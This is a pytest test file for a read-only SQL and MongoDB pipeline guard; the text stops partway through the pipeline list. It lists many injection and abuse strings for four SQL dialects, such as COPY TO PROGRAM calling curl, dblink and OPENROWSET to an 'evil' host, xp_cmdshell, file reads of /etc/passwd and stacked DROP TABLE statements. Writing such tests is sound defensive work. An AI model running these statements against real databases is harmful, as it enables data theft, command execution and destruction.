"""The guard in front of companies' databases: what it refuses (and says why) and what it lets through.

Pure parsing and rewriting, no server: the executors' read-only sessions and timeouts are tested
with the real engines elsewhere. Every refusal is checked to name the construct it refused.
"""

from __future__ import annotations

import pytest

from knowrithm_common.errors import ValidationFailed
from knowrithm_ingestion.databases.guard import Dialect, GuardedSql, SqlRefused, check_sql
from knowrithm_ingestion.databases.pipeline_guard import PipelineRefused, check_pipeline

TABLES = ["customer", "invoice", "invoice_line", "track", "album", "artist"]

# (id, sql, a fragment the refusal's reason must contain)
COMMON_ATTACKS: list[tuple[str, str, str]] = [
    ("stacked-drop", "SELECT 1; DROP TABLE customer", "one statement"),
    ("stacked-commit-create", "SELECT 1; COMMIT; CREATE TABLE x (a INT)", "one statement"),
    ("stacked-two-selects", "SELECT * FROM customer; SELECT * FROM invoice", "one statement"),
    ("stacked-insert", "SELECT * FROM customer; INSERT INTO customer VALUES (1)", "one statement"),
    ("stacked-delete-after-comment", "SELECT 1 -- harmless\n; DELETE FROM customer", "one statement"),
    ("stacked-update", "SELECT 1;UPDATE customer SET city = 'x'", "one statement"),
    ("drop-table", "DROP TABLE customer", "DROP"),
    ("drop-view", "DROP VIEW v", "DROP"),
    ("delete", "DELETE FROM customer", "DELETE"),
    ("delete-where", "DELETE FROM customer WHERE customer_id = 1", "DELETE"),
    ("update", "UPDATE customer SET city = 'x'", "UPDATE"),
    ("insert-values", "INSERT INTO customer VALUES (1)", "INSERT"),
    ("insert-select", "INSERT INTO customer SELECT * FROM invoice", "INSERT"),
    ("create-table", "CREATE TABLE x (a INT)", "CREATE"),
    ("create-table-as", "CREATE TABLE x AS SELECT * FROM customer", "CREATE"),
    ("create-view", "CREATE VIEW v AS SELECT * FROM customer", "CREATE"),
    ("create-index", "CREATE INDEX i ON customer (city)", "CREATE"),
    ("alter-table", "ALTER TABLE customer ADD COLUMN b INT", "ALTER"),
    ("grant", "GRANT SELECT ON customer TO someone", "GRANT"),
    ("revoke", "REVOKE SELECT ON customer FROM someone", "REVOKE"),
    ("commit", "COMMIT", "COMMIT"),
    ("rollback", "ROLLBACK", "ROLLBACK"),
    ("table-not-listed", "SELECT * FROM secrets", "secrets is not one of"),
    ("join-not-listed", "SELECT * FROM customer JOIN secrets ON 1 = 1", "secrets is not one of"),
    ("in-subquery-not-listed", "SELECT * FROM customer WHERE city IN (SELECT city FROM secrets)", "secrets"),
    ("union-not-listed", "SELECT city FROM customer UNION SELECT city FROM secrets", "secrets"),
    ("except-not-listed", "SELECT city FROM customer EXCEPT SELECT city FROM secrets", "secrets"),
    ("cte-body-not-listed", "WITH x AS (SELECT * FROM secrets) SELECT * FROM x", "secrets"),
    ("exists-not-listed", "SELECT 1 FROM customer WHERE EXISTS (SELECT 1 FROM secrets)", "secrets"),
    ("derived-table-not-listed", "SELECT * FROM (SELECT * FROM secrets) AS s", "secrets"),
    ("scalar-subquery-not-listed", "SELECT (SELECT MAX(pw) FROM secrets) FROM customer", "secrets"),
    (
        "later-cte-not-visible",
        "WITH a AS (SELECT * FROM secrets), secrets AS (SELECT 1 AS x) SELECT * FROM a",
        "secrets",
    ),
    (
        "cte-self-reference-not-recursive",
        "WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets",
        "secrets",
    ),
    ("unknown-function", "SELECT evil(city) FROM customer", "function evil"),
    ("schema-qualified-function", "SELECT myschema.lower(city) FROM customer", "schema-qualified function"),
    ("unknown-function-in-where", "SELECT * FROM customer WHERE evil(city) = 1", "function evil"),
    ("unknown-function-in-order", "SELECT * FROM customer ORDER BY evil(city)", "function evil"),
    ("unknown-function-in-join", "SELECT * FROM customer JOIN invoice ON evil(1) = 1", "function evil"),
    ("versioned-comment", "SELECT /*!50000 SLEEP(5) */ 1", "executable comments"),
    ("versioned-comment-mariadb", "SELECT /*M!100100 SLEEP(5) */ 1", "executable comments"),
    (
        "versioned-comment-in-where",
        "SELECT * FROM customer WHERE 1 = 1 /*!AND SLEEP(5)*/",
        "executable comments",
    ),
    ("empty", "", "empty"),
    ("only-semicolons", " ; ; ", "empty"),
    ("only-comment", "-- nothing here", "empty"),
    ("explain", "EXPLAIN SELECT * FROM customer", "EXPLAIN"),
    ("parenthesized-delete", "(DELETE FROM customer)", "DELETE"),
    ("nested-too-deeply", "SELECT " + "(" * 3000 + "1" + ")" * 3000, "nested too deeply"),
]

POSTGRES_ATTACKS: list[tuple[str, str, str]] = [
    ("data-modifying-cte-delete", "WITH d AS (DELETE FROM customer RETURNING *) SELECT * FROM d", "DELETE"),
    (
        "data-modifying-cte-update",
        "WITH u AS (UPDATE customer SET city = 'x' RETURNING *) SELECT * FROM u",
        "UPDATE",
    ),
    (
        "data-modifying-cte-insert",
        "WITH i AS (INSERT INTO customer VALUES (1) RETURNING *) SELECT 1",
        "INSERT",
    ),
    ("select-into", "SELECT * INTO stolen FROM customer", "INTO"),
    ("pg-sleep", "SELECT pg_sleep(10)", "function pg_sleep"),
    ("pg-sleep-qualified", "SELECT pg_catalog.pg_sleep(10)", "pg_sleep"),
    ("pg-sleep-in-where", "SELECT * FROM customer WHERE pg_sleep(1) IS NULL", "function pg_sleep"),
    ("set-config", "SELECT set_config('default_transaction_read_only', 'off', false)", "function set_config"),
    ("pg-read-file", "SELECT pg_read_file('/etc/passwd')", "function pg_read_file"),
    ("pg-read-binary-file", "SELECT pg_read_binary_file('/etc/passwd')", "function pg_read_binary_file"),
    ("pg-ls-dir", "SELECT pg_ls_dir('.')", "function pg_ls_dir"),
    ("lo-import", "SELECT lo_import('/etc/passwd')", "function lo_import"),
    ("lo-export", "SELECT lo_export(1, '/tmp/x')", "function lo_export"),
    ("dblink", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a INT)", "function dblink"),
    ("current-setting", "SELECT current_setting('data_directory')", "function current_setting"),
    ("pg-terminate-backend", "SELECT pg_terminate_backend(1)", "function pg_terminate_backend"),
    ("nextval", "SELECT nextval('customer_id_seq')", "function nextval"),
    ("txid-current", "SELECT txid_current()", "function txid_current"),
    ("generate-series-bomb", "SELECT * FROM generate_series(1, 1000000000)", "generate_series"),
    ("current-user", "SELECT current_user", "current_user"),
    ("for-update", "SELECT * FROM customer FOR UPDATE", "locking"),
    ("for-share", "SELECT * FROM customer FOR SHARE", "locking"),
    ("for-no-key-update", "SELECT * FROM customer FOR NO KEY UPDATE", "locking"),
    ("copy-to-file", "COPY customer TO '/tmp/x'", "COPY"),
    ("copy-to-program", "COPY customer TO PROGRAM 'curl evil'", "COPY"),
    ("copy-from", "COPY customer FROM '/etc/passwd'", "COPY"),
    ("set", "SET search_path = evil", "SET"),
    ("set-transaction", "SET TRANSACTION READ WRITE", "SET"),
    ("lock", "LOCK TABLE customer", "LOCK"),
    ("call", "CALL do_things()", "CALL"),
    ("do-block", "DO $$ BEGIN DELETE FROM customer; END $$", "DO"),
    ("execute", "EXECUTE stmt", "EXECUTE"),
    ("prepare", "PREPARE p AS DELETE FROM customer", "PREPARE"),
    ("begin", "BEGIN", "BEGIN"),
    ("start-transaction-read-write", "START TRANSACTION READ WRITE", "transaction"),
    ("vacuum", "VACUUM", "VACUUM"),
    ("truncate", "TRUNCATE customer", "TRUNCATE"),
    ("pg-catalog", "SELECT * FROM pg_catalog.pg_authid", "system catalog pg_catalog.pg_authid"),
    ("pg-shadow-unqualified", "SELECT * FROM pg_shadow", "system catalog pg_shadow"),
    (
        "information-schema",
        "SELECT * FROM information_schema.tables",
        "system catalog information_schema.tables",
    ),
    (
        "pg-user-via-cte-name",
        "WITH pg_user AS (SELECT * FROM pg_user) SELECT * FROM pg_user",
        "system catalog pg_user",
    ),
    ("other-database", "SELECT * FROM otherdb.public.customer", "another database"),
    ("values-root", "VALUES (1)", "VALUES"),
    ("merge", "MERGE INTO customer USING invoice ON true WHEN MATCHED THEN DELETE", "MERGE"),
    ("listen", "LISTEN channel", "LISTEN"),
    ("query-to-xml-runs-sql", "SELECT query_to_xml('DELETE FROM customer RETURNING 1', true, true, '')", "query_to_xml"),
    ("ts-stat-runs-sql", "SELECT * FROM ts_stat('SELECT 1')", "function ts_stat"),
    ("dblink-exec", "SELECT dblink_exec('host=evil', 'DROP TABLE customer')", "function dblink_exec"),
    ("rows-from-pg-sleep", "SELECT * FROM ROWS FROM (pg_sleep(1)) AS t", "function pg_sleep"),
    ("cast-hides-pg-sleep", "SELECT (pg_sleep(1))::text", "function pg_sleep"),
    # A backslash escapes nothing in a standard string: two statements, as PostgreSQL reads them.
    ("backslash-stacked", r"SELECT '\'; DROP TABLE customer; --' FROM customer", "one statement"),
]

MYSQL_ATTACKS: list[tuple[str, str, str]] = [
    ("into-outfile", "SELECT * FROM customer INTO OUTFILE '/tmp/x'", "INTO OUTFILE"),
    ("into-outfile-before-from", "SELECT * INTO OUTFILE '/tmp/x' FROM customer", "INTO OUTFILE"),
    ("into-dumpfile", "SELECT email FROM customer INTO DUMPFILE '/tmp/x'", "INTO DUMPFILE"),
    ("into-variable", "SELECT city INTO @stolen FROM customer", "INTO"),
    ("load-file", "SELECT LOAD_FILE('/etc/passwd')", "function load_file"),
    (
        "load-file-in-union",
        "SELECT city FROM customer UNION SELECT LOAD_FILE('/etc/passwd')",
        "function load_file",
    ),
    ("sleep", "SELECT SLEEP(10)", "function sleep"),
    ("sleep-in-where", "SELECT * FROM customer WHERE SLEEP(1) = 0", "function sleep"),
    ("benchmark", "SELECT BENCHMARK(100000000, MD5('a'))", "function benchmark"),
    ("get-lock", "SELECT GET_LOCK('x', 10)", "function get_lock"),
    ("sys-exec", "SELECT sys_exec('id')", "function sys_exec"),
    ("user-function", "SELECT USER()", "user"),
    ("lock-in-share-mode", "SELECT * FROM customer LOCK IN SHARE MODE", "locking"),
    ("for-update", "SELECT * FROM customer FOR UPDATE", "locking"),
    ("load-data", "LOAD DATA INFILE '/etc/passwd' INTO TABLE customer", "LOAD DATA"),
    ("load-data-local", "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE customer", "LOAD DATA"),
    ("set-variable", "SET @a = 1", "SET"),
    ("set-global", "SET GLOBAL general_log = 'ON'", "SET"),
    ("set-session-read-write", "SET SESSION transaction_read_only = 0", "SET"),
    ("assign-in-select", "SELECT @a := city FROM customer", "assignment"),
    ("server-variable", "SELECT @@secure_file_priv", "server variables"),
    ("user-variable", "SELECT @stolen", "variables"),
    ("handler", "HANDLER customer OPEN", "HANDLER"),
    ("do-sleep", "DO SLEEP(5)", "DO"),
    ("call", "CALL do_things()", "CALL"),
    ("lock-tables", "LOCK TABLES customer WRITE", "LOCK"),
    ("use", "USE mysql", "USE"),
    ("show-grants", "SHOW GRANTS", "SHOW"),
    ("mysql-user", "SELECT * FROM mysql.user", "system catalog mysql.user"),
    (
        "performance-schema",
        "SELECT * FROM performance_schema.threads",
        "system catalog performance_schema.threads",
    ),
    ("information-schema", "SELECT * FROM information_schema.user_privileges", "system catalog"),
    ("sys-schema", "SELECT * FROM sys.processlist", "system catalog sys.processlist"),
    ("truncate", "TRUNCATE TABLE customer", "TRUNCATE"),
    ("replace-into", "REPLACE INTO customer VALUES (1)", "REPLACE"),
    ("start-transaction", "START TRANSACTION", "transaction"),
    ("versioned-comment-drop", "SELECT 1 /*!; DROP TABLE customer */", "executable comments"),
]

SQLITE_ATTACKS: list[tuple[str, str, str]] = [
    ("attach", "ATTACH DATABASE '/tmp/evil.db' AS evil", "ATTACH"),
    ("attach-short", "ATTACH '/tmp/evil.db' AS evil", "ATTACH"),
    ("detach", "DETACH evil", "DETACH"),
    ("pragma-writable-schema", "PRAGMA writable_schema = ON", "PRAGMA"),
    ("pragma-table-info", "PRAGMA table_info(customer)", "PRAGMA"),
    ("pragma-journal", "PRAGMA journal_mode = DELETE", "PRAGMA"),
    ("pragma-function", "SELECT * FROM pragma_table_info('customer')", "function pragma_table_info"),
    ("load-extension", "SELECT load_extension('/tmp/evil.so')", "function load_extension"),
    ("readfile", "SELECT readfile('/etc/passwd')", "function readfile"),
    ("writefile", "SELECT writefile('/tmp/x', 'data')", "function writefile"),
    ("fts3-tokenizer", "SELECT fts3_tokenizer('simple')", "function fts3_tokenizer"),
    ("zeroblob-bomb", "SELECT zeroblob(1000000000)", "function zeroblob"),
    ("randomblob-bomb", "SELECT randomblob(1000000000)", "function randomblob"),
    ("sqlite-master", "SELECT * FROM sqlite_master", "system catalog sqlite_master"),
    ("sqlite-schema", "SELECT sql FROM sqlite_schema", "system catalog sqlite_schema"),
    ("sqlite-temp-master", "SELECT * FROM sqlite_temp_master", "system catalog sqlite_temp_master"),
    ("main-sqlite-master", "SELECT * FROM main.sqlite_master", "system catalog main.sqlite_master"),
    ("vacuum-into", "VACUUM INTO '/tmp/copy.db'", "VACUUM"),
    ("reindex", "REINDEX", "REINDEX"),
    ("begin", "BEGIN", "BEGIN"),
    ("begin-immediate", "BEGIN IMMEDIATE", "BEGIN"),
    ("savepoint", "SAVEPOINT s", "SAVEPOINT"),
    ("insert-or-replace", "INSERT OR REPLACE INTO customer VALUES (1)", "INSERT"),
    (
        "create-temp-trigger",
        "CREATE TEMP TRIGGER t AFTER INSERT ON customer BEGIN SELECT 1; END",
        "one statement",
    ),
    ("drop-table-if-exists", "DROP TABLE IF EXISTS customer", "DROP"),
    ("data-modifying-cte", "WITH d AS (DELETE FROM customer RETURNING *) SELECT * FROM d", "DELETE"),
    ("analyze", "ANALYZE", "ANALYZE"),
    ("sleep-like-function", "SELECT sleep(5)", "function sleep"),
    ("other-database", "SELECT * FROM evil.customer.x", "another database"),
    ("upsert", "INSERT INTO customer VALUES (1) ON CONFLICT DO NOTHING", "INSERT"),
]

MSSQL_ATTACKS: list[tuple[str, str, str]] = [
    ("xp-cmdshell", "EXEC xp_cmdshell 'dir'", "EXECUTE"),
    ("execute-sp", "EXECUTE sp_configure 'show advanced options', 1", "EXECUTE"),
    ("execute-string", "EXEC('DROP TABLE customer')", "EXEC"),
    ("stacked-exec", "SELECT 1; EXEC xp_cmdshell 'dir'", "one statement"),
    ("openrowset", "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;', 'SELECT 1')", "function openrowset"),
    ("openquery", "SELECT * FROM OPENQUERY(linked, 'SELECT 1')", "function openquery"),
    (
        "opendatasource",
        "SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=evil').db.dbo.t",
        "opendatasource",
    ),
    ("waitfor", "WAITFOR DELAY '00:00:10'", "WAITFOR"),
    ("select-into-temp", "SELECT * INTO #stolen FROM customer", "INTO"),
    ("select-into-table", "SELECT * INTO stolen FROM customer", "INTO"),
    ("updlock-hint", "SELECT * FROM customer WITH (UPDLOCK)", "table hints"),
    ("tablockx-hint", "SELECT * FROM customer WITH (TABLOCKX, HOLDLOCK)", "table hints"),
    ("bulk-insert", "BULK INSERT customer FROM '\\\\evil\\share\\x.csv'", "BULK INSERT"),
    ("shutdown", "SELECT 1; SHUTDOWN", "one statement"),
    ("shutdown-alone", "SHUTDOWN WITH NOWAIT", "SHUTDOWN"),
    ("declare", "DECLARE @x INT", "DECLARE"),
    ("set-option", "SET TRANSACTION ISOLATION LEVEL READ UNCOMMITTED", "SET"),
    ("set-variable", "SET @x = 1", "SET"),
    ("variable", "SELECT @x", "variables"),
    ("server-variable", "SELECT @@version", "variables"),
    ("begin-transaction", "BEGIN TRANSACTION", "BEGIN"),
    ("sys-objects", "SELECT * FROM sys.objects", "system catalog sys.objects"),
    ("sys-sql-logins", "SELECT * FROM sys.sql_logins", "system catalog sys.sql_logins"),
    ("sysobjects", "SELECT * FROM sysobjects", "system catalog sysobjects"),
    ("information-schema", "SELECT * FROM INFORMATION_SCHEMA.TABLES", "system catalog"),
    ("master-database", "SELECT * FROM master.dbo.sysdatabases", "another database"),
    ("linked-server", "SELECT * FROM evil.db.dbo.customer", "another database"),
    ("merge", "MERGE customer AS t USING invoice AS s ON 1 = 1 WHEN MATCHED THEN DELETE;", "MERGE"),
    ("truncate", "TRUNCATE TABLE customer", "TRUNCATE"),
    ("use", "USE master", "USE"),
    ("kill", "KILL 52", "KILL"),
    ("master-empty-schema", "SELECT name FROM master..sysdatabases", "system catalog"),
    ("bracketed-other-database", "SELECT * FROM [master].[sys].[databases]", "another database"),
    ("permissions-function", "SELECT * FROM fn_my_permissions(NULL, NULL)", "function fn_my_permissions"),
    ("reconfigure", "RECONFIGURE", "RECONFIGURE"),
    ("dbcc", "DBCC CHECKDB", "DBCC"),
    ("system-user", "SELECT SYSTEM_USER", "function current_user"),
    ("output-into", "DELETE FROM customer OUTPUT deleted.* INTO stolen", "DELETE"),
    (
        "xp-dirtree-function",
        "SELECT * FROM customer WHERE 1 = (SELECT xp_dirtree('\\\\evil\\x'))",
        "function xp_dirtree",
    ),
]

ATTACKS: dict[Dialect, list[tuple[str, str, str]]] = {
    "postgresql": COMMON_ATTACKS + POSTGRES_ATTACKS,
    "mysql": COMMON_ATTACKS + MYSQL_ATTACKS,
    "sqlite": COMMON_ATTACKS + SQLITE_ATTACKS,
    "mssql": COMMON_ATTACKS + MSSQL_ATTACKS,
}


def _attack_params() -> list[pytest.ParameterSet]:
    return [
        pytest.param(dialect, sql, fragment, id=f"{dialect}-{name}")
        for dialect, attacks in ATTACKS.items()
        for name, sql, fragment in attacks
    ]


def test_attack_suite_has_at_least_fifty_statements_per_dialect() -> None:
    for dialect, attacks in ATTACKS.items():
        assert len(attacks) >= 50, dialect
        assert len({name for name, _, _ in attacks}) == len(attacks), f"duplicate ids for {dialect}"


@pytest.mark.parametrize(("dialect", "sql", "fragment"), _attack_params())
def test_attack_is_refused_with_a_reason_naming_the_construct(
    dialect: Dialect, sql: str, fragment: str
) -> None:
    with pytest.raises(SqlRefused) as refused:
        check_sql(sql, dialect=dialect, tables=TABLES, limit=100)
    assert fragment.lower() in refused.value.reason.lower(), refused.value.reason


def test_refusal_is_a_422_with_its_own_code() -> None:
    with pytest.raises(SqlRefused) as refused:
        check_sql("SELECT pg_sleep(10)", dialect="postgresql", tables=TABLES, limit=10)
    error = refused.value
    assert isinstance(error, ValidationFailed)
    assert (error.status_code, error.code) == (422, "sql_refused")
    assert error.message == "This SQL is not allowed: function pg_sleep is not allowed"
    assert error.detail == {"reason": "function pg_sleep is not allowed"}


def test_cockroachdb_is_guarded_like_postgresql() -> None:
    with pytest.raises(SqlRefused, match="pg_sleep"):
        check_sql("SELECT pg_sleep(1)", dialect="cockroachdb", tables=None, limit=10)
    assert (
        check_sql("SELECT * FROM t", dialect="cockroachdb", tables=None, limit=10).sql
        == "SELECT * FROM t LIMIT 10"
    )


def test_tables_none_skips_the_table_check_but_not_system_catalogs() -> None:
    assert check_sql("SELECT * FROM anything", dialect="postgresql", tables=None, limit=5).tables == [
        "anything"
    ]
    with pytest.raises(SqlRefused, match=r"system catalog pg_catalog\.pg_authid"):
        check_sql("SELECT * FROM pg_catalog.pg_authid", dialect="postgresql", tables=None, limit=5)


def test_a_system_catalog_listed_as_a_table_is_allowed() -> None:
    guarded = check_sql("SELECT * FROM sqlite_master", dialect="sqlite", tables=["sqlite_master"], limit=5)
    assert guarded.sql == "SELECT * FROM sqlite_master LIMIT 5"


WHERE_CLAUSE = (
    "SELECT DISTINCT c.city, COUNT(i.invoice_id) AS n FROM customer c LEFT JOIN invoice i "
    "ON i.customer_id = c.customer_id WHERE (c.country = 'Brazil' OR c.country IN ('USA', 'Canada')) "
    "AND i.total BETWEEN 1 AND 10 AND c.city LIKE 'S%' GROUP BY c.city HAVING COUNT(*) > 1 ORDER BY n DESC"
)
WHERE_CLAUSE_OUT = (
    "c.city, COUNT(i.invoice_id) AS n FROM customer AS c LEFT JOIN invoice AS i "
    "ON i.customer_id = c.customer_id WHERE (c.country = 'Brazil' OR c.country IN ('USA', 'Canada')) "
    "AND i.total BETWEEN 1 AND 10 AND c.city LIKE 'S%' GROUP BY c.city HAVING COUNT(*) > 1 ORDER BY n DESC"
)

# (id, dialect, sql, the SQL that runs, the tables it reads)
SAFE: list[tuple[str, Dialect, str, str, list[str]]] = [
    *[
        (
            f"{dialect}-connectors-and-predicates",
            dialect,
            WHERE_CLAUSE,
            f"SELECT DISTINCT {WHERE_CLAUSE_OUT} LIMIT 100",
            ["customer", "invoice"],
        )
        for dialect in ("postgresql", "mysql", "sqlite")
    ],
    (
        "mssql-connectors-and-predicates",
        "mssql",
        WHERE_CLAUSE,
        f"SELECT DISTINCT TOP 100 {WHERE_CLAUSE_OUT}",
        ["customer", "invoice"],
    ),
    (
        "pg-parentheses-dropped",
        "postgresql",
        "((SELECT city FROM customer))",
        "SELECT city FROM customer LIMIT 100",
        ["customer"],
    ),
    (
        "pg-union-outer-limit-clamped-inner-kept",
        "postgresql",
        "SELECT city FROM customer UNION (SELECT city FROM invoice LIMIT 5000) LIMIT 5000",
        "SELECT city FROM customer UNION (SELECT city FROM invoice LIMIT 5000) LIMIT 100",
        ["customer", "invoice"],
    ),
    (
        "pg-operators",
        "postgresql",
        "SELECT city FROM customer WHERE city ~* 'x' AND data @> '{}' AND tags && ARRAY['a']",
        "SELECT city FROM customer WHERE city ~* 'x' AND data @> '{}' AND tags && ARRAY['a'] LIMIT 100",
        ["customer"],
    ),
    (
        "pg-escape-and-dollar-strings-stay-strings",
        "postgresql",
        r"SELECT E'\'; DROP TABLE customer; --', $$';DROP TABLE customer;--$$ FROM customer",
        "SELECT e'''; DROP TABLE customer; --', ''';DROP TABLE customer;--' FROM customer LIMIT 100",
        ["customer"],
    ),
    (
        "mysql-backslash-quote-stays-a-string",
        "mysql",
        r"SELECT '\'; DROP TABLE customer; --' FROM customer",
        "SELECT '''; DROP TABLE customer; --' FROM customer LIMIT 100",
        ["customer"],
    ),
    (
        "pg-join-aggregate-limit-clamped",
        "postgresql",
        "SELECT c.country, COUNT(*) AS n FROM customer c JOIN invoice i ON i.customer_id = c.customer_id "
        "GROUP BY c.country ORDER BY n DESC LIMIT 5000",
        "SELECT c.country, COUNT(*) AS n FROM customer AS c JOIN invoice AS i ON i.customer_id = c.customer_id "
        "GROUP BY c.country ORDER BY n DESC LIMIT 100",
        ["customer", "invoice"],
    ),
    (
        "pg-small-limit-kept",
        "postgresql",
        "SELECT city FROM customer LIMIT 3",
        "SELECT city FROM customer LIMIT 3",
        ["customer"],
    ),
    (
        "pg-limit-added-comments-gone",
        "postgresql",
        "/* who */ SELECT city -- the city\nFROM customer",
        "SELECT city FROM customer LIMIT 100",
        ["customer"],
    ),
    (
        "pg-limit-all-replaced",
        "postgresql",
        "SELECT city FROM customer LIMIT ALL",
        "SELECT city FROM customer LIMIT 100",
        ["customer"],
    ),
    (
        "pg-limit-subquery-replaced",
        "postgresql",
        "SELECT city FROM customer LIMIT (SELECT 100000)",
        "SELECT city FROM customer LIMIT 100",
        ["customer"],
    ),
    (
        "pg-fetch-first-clamped",
        "postgresql",
        "SELECT city FROM customer FETCH FIRST 5000 ROWS ONLY",
        "SELECT city FROM customer LIMIT 100",
        ["customer"],
    ),
    (
        "pg-window-and-cte",
        "postgresql",
        "WITH totals AS (SELECT customer_id, SUM(total) AS spent FROM invoice GROUP BY customer_id) "
        "SELECT customer_id, RANK() OVER (ORDER BY spent DESC) FROM totals",
        "WITH totals AS (SELECT customer_id, SUM(total) AS spent FROM invoice GROUP BY customer_id) "
        "SELECT customer_id, RANK() OVER (ORDER BY spent DESC) FROM totals LIMIT 100",
        ["invoice"],
    ),
    (
        "pg-recursive-cte",
        "postgresql",
        "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT n FROM r",
        "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT n FROM r LIMIT 100",
        [],
    ),
    (
        "pg-union-with-schema",
        "postgresql",
        "SELECT name FROM public.artist UNION SELECT title FROM album",
        "SELECT name FROM public.artist UNION SELECT title FROM album LIMIT 100",
        ["public.artist", "album"],
    ),
    (
        "pg-subquery-and-functions",
        "postgresql",
        "SELECT UPPER(city), date_trunc('month', invoice_date), COALESCE(state, '-') FROM customer "
        "JOIN invoice USING (customer_id) WHERE total > (SELECT AVG(total) FROM invoice)",
        "SELECT UPPER(city), DATE_TRUNC('MONTH', invoice_date), COALESCE(state, '-') FROM customer "
        "JOIN invoice USING (customer_id) WHERE total > (SELECT AVG(total) FROM invoice) LIMIT 100",
        ["customer", "invoice"],
    ),
    (
        "mysql-limit-offset-clamped",
        "mysql",
        "SELECT city FROM customer LIMIT 3, 5000",
        "SELECT city FROM customer LIMIT 100 OFFSET 3",
        ["customer"],
    ),
    (
        "mysql-hash-comment-gone-and-functions",
        "mysql",
        "SELECT CONCAT(first_name, ' ', last_name), IFNULL(state, '-') FROM customer # names\n",
        "SELECT CONCAT(first_name, ' ', last_name), COALESCE(state, '-') FROM customer LIMIT 100",
        ["customer"],
    ),
    (
        "mysql-group-concat-union",
        "mysql",
        "SELECT GROUP_CONCAT(name) FROM artist UNION ALL SELECT title FROM album",
        "SELECT GROUP_CONCAT(name SEPARATOR ',') FROM artist UNION ALL SELECT title FROM album LIMIT 100",
        ["artist", "album"],
    ),
    (
        "sqlite-strftime-and-window",
        "sqlite",
        "SELECT strftime('%Y', invoice_date) AS y, SUM(total) OVER (PARTITION BY customer_id) FROM invoice",
        "SELECT STRFTIME('%Y', invoice_date) AS y, SUM(total) OVER (PARTITION BY customer_id) FROM invoice LIMIT 100",
        ["invoice"],
    ),
    (
        "sqlite-case-insensitive-tables",
        "sqlite",
        "SELECT * FROM Customer WHERE Country = 'Brazil' LIMIT 10",
        "SELECT * FROM Customer WHERE Country = 'Brazil' LIMIT 10",
        ["Customer"],
    ),
    (
        "mssql-top-added",
        "mssql",
        "SELECT city FROM customer",
        "SELECT TOP 100 city FROM customer",
        ["customer"],
    ),
    (
        "mssql-top-clamped",
        "mssql",
        "SELECT TOP 5000 city FROM customer ORDER BY city",
        "SELECT TOP 100 city FROM customer ORDER BY city",
        ["customer"],
    ),
    (
        "mssql-top-percent-replaced",
        "mssql",
        "SELECT TOP 50 PERCENT city FROM customer",
        "SELECT TOP 100 city FROM customer",
        ["customer"],
    ),
    (
        "mssql-union-wrapped-with-top",
        "mssql",
        "SELECT name FROM artist UNION SELECT title FROM album",
        "SELECT TOP 100 * FROM (SELECT name FROM artist UNION SELECT title FROM album) AS _l_0",
        ["artist", "album"],
    ),
    (
        "mssql-offset-fetch-clamped",
        "mssql",
        "SELECT city FROM customer ORDER BY city OFFSET 10 ROWS FETCH NEXT 5000 ROWS ONLY",
        "SELECT city FROM customer ORDER BY city OFFSET 10 ROWS FETCH FIRST 100 ROWS ONLY",
        ["customer"],
    ),
    (
        "mssql-dbo-schema-and-functions",
        "mssql",
        "SELECT LEN(c.city), ISNULL(c.state, '-'), DATEPART(year, i.invoice_date) FROM dbo.customer c "
        "JOIN dbo.invoice i ON i.customer_id = c.customer_id",
        "SELECT TOP 100 LEN(c.city), ISNULL(c.state, '-'), DATEPART(year, i.invoice_date) FROM dbo.customer AS c "
        "JOIN dbo.invoice AS i ON i.customer_id = c.customer_id",
        ["dbo.customer", "dbo.invoice"],
    ),
]


@pytest.mark.parametrize(
    ("dialect", "sql", "expected", "tables"),
    [pytest.param(d, s, e, t, id=name) for name, d, s, e, t in SAFE],
)
def test_safe_statement_passes_regenerated_and_bounded(
    dialect: Dialect, sql: str, expected: str, tables: list[str]
) -> None:
    guarded = check_sql(sql, dialect=dialect, tables=[*TABLES, "Customer"], limit=100)
    assert guarded == GuardedSql(sql=expected, tables=tables, limit=guarded.limit)
    assert guarded.limit <= 100


def test_guarded_sql_passes_the_guard_again_unchanged() -> None:
    once = check_sql("SELECT city FROM customer -- x", dialect="mysql", tables=TABLES, limit=50)
    assert check_sql(once.sql, dialect="mysql", tables=TABLES, limit=50) == once


# Pipelines: (id, collection, pipeline, a fragment of the reason)
PIPELINE_ATTACKS: list[tuple[str, str, list[dict], str]] = [
    ("out", "orders", [{"$match": {}}, {"$out": "stolen"}], "$out"),
    ("merge", "orders", [{"$merge": {"into": "orders"}}], "$merge"),
    ("where-in-match", "orders", [{"$match": {"$where": "sleep(10000) || true"}}], "$where"),
    ("where-nested-in-or", "orders", [{"$match": {"$or": [{"a": 1}, {"$where": "true"}]}}], "$where"),
    (
        "function-in-expr",
        "orders",
        [
            {
                "$match": {
                    "$expr": {"$function": {"body": "function() {return true}", "args": [], "lang": "js"}}
                }
            }
        ],
        "$function",
    ),
    (
        "function-in-add-fields",
        "orders",
        [{"$addFields": {"x": {"$function": {"body": "f", "args": []}}}}],
        "$function",
    ),
    (
        "accumulator-in-group",
        "orders",
        [{"$group": {"_id": None, "x": {"$accumulator": {"init": "function() {}", "lang": "js"}}}}],
        "$accumulator",
    ),
    ("lookup-foreign-collection", "orders", [{"$lookup": {"from": "secrets", "as": "s"}}], "secrets"),
    (
        "lookup-other-database",
        "orders",
        [{"$lookup": {"from": {"db": "admin", "coll": "x"}, "as": "s"}}],
        "collection",
    ),
    (
        "lookup-pipeline-with-out",
        "orders",
        [{"$lookup": {"from": "customers", "as": "c", "pipeline": [{"$out": "x"}]}}],
        "$out",
    ),
    ("union-with-foreign", "orders", [{"$unionWith": "secrets"}], "secrets"),
    ("union-with-foreign-object", "orders", [{"$unionWith": {"coll": "secrets", "pipeline": []}}], "secrets"),
    ("facet-with-merge", "orders", [{"$facet": {"a": [{"$merge": {"into": "x"}}]}}], "$merge"),
    ("facet-with-where", "orders", [{"$facet": {"a": [{"$match": {"$where": "true"}}]}}], "$where"),
    ("current-op", "orders", [{"$currentOp": {}}], "$currentOp"),
    ("list-sessions", "orders", [{"$listSessions": {}}], "$listSessions"),
    ("coll-stats", "orders", [{"$collStats": {"count": {}}}], "$collStats"),
    ("unknown-stage", "orders", [{"$evil": {}}], "$evil"),
